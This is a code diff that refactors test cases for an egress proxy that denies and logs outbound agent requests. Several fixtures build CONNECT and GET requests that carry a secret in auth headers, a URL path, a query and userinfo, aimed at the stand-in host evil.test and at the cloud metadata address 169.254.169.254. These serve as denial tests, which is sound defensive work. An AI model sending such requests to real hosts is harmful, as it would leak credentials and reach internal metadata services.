@@ -87,45 +87,26 @@ function exchange(port: number, source: string, request: string): Promise<string
 
 const CHAIN_FIELDS = ["seq", "ts", "service", "type", "prev", "hash"];
 const withSecretHeaders = `Proxy-Authorization: Basic ${Buffer.from(`bart:${SECRET}`).toString("base64")}\r\nAuthorization: Bearer ${SECRET}\r\nX-Note: ${SECRET}\r\n`;
+const connectWithSecrets = (authority: string) => `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n${withSecretHeaders}\r\n`;
 
 describe("a denial", () => {
     it.each<[string, string, string, Record<string, unknown>]>([
-        [
-            "CONNECT to a host not on the allowlist",
-            BART,
-            `CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n${withSecretHeaders}\r\n`,
-            { agent: "bart", remote: BART, host: "evil.test", port: 443, reason: "not_allowlisted", unaudited: 0 },
-        ],
+        ["CONNECT to a host not on the allowlist", BART, connectWithSecrets("evil.test:443"), { agent: "bart", remote: BART, host: "evil.test", port: 443, reason: "not_allowlisted", unaudited: 0 }],
         [
             "plain HTTP with a path and query",
             BART,
             `GET http://evil.test/${SECRET}?token=${SECRET} HTTP/1.1\r\nHost: evil.test\r\n${withSecretHeaders}\r\n`,
             { agent: "bart", remote: BART, host: "evil.test", port: 80, reason: "not_allowlisted", unaudited: 0 },
         ],
-        [
-            "an allowlisted host on a port not allowed",
-            BART,
-            `CONNECT allowed.test:8443 HTTP/1.1\r\nHost: allowed.test:8443\r\n${withSecretHeaders}\r\n`,
-            { agent: "bart", remote: BART, host: "allowed.test", port: 8443, reason: "not_allowlisted", unaudited: 0 },
-        ],
-        [
-            "an IP literal, with a qualified reason",
-            BART,
-            `CONNECT 169.254.169.254:443 HTTP/1.1\r\nHost: 169.254.169.254:443\r\n${withSecretHeaders}\r\n`,
-            { agent: "bart", remote: BART, host: "169.254.169.254", port: 443, reason: "ip_literal", unaudited: 0 },
-        ],
+        ["an allowlisted host on a port not allowed", BART, connectWithSecrets("allowed.test:8443"), { agent: "bart", remote: BART, host: "allowed.test", port: 8443, reason: "not_allowlisted", unaudited: 0 }],
+        ["an IP literal, with a qualified reason", BART, connectWithSecrets("169.254.169.254:443"), { agent: "bart", remote: BART, host: "169.254.169.254", port: 443, reason: "ip_literal", unaudited: 0 }],
         [
             "credentials in the URL (unreadable: no destination written)",
             BART,
             `GET http://bart:${SECRET}@evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n`,
             { agent: "bart", remote: BART, reason: "userinfo", unaudited: 0 },
         ],
-        [
-            "a source no agent owns",
-            STRANGER,
-            `CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n${withSecretHeaders}\r\n`,
-            { agent: "unknown", remote: STRANGER, host: "allowed.test", port: 443, reason: "unknown_source", unaudited: 0 },
-        ],
+        ["a source no agent owns", STRANGER, connectWithSecrets("allowed.test:443"), { agent: "unknown", remote: STRANGER, host: "allowed.test", port: 443, reason: "unknown_source", unaudited: 0 }],
         [
             "a WebSocket upgrade",
             BART,
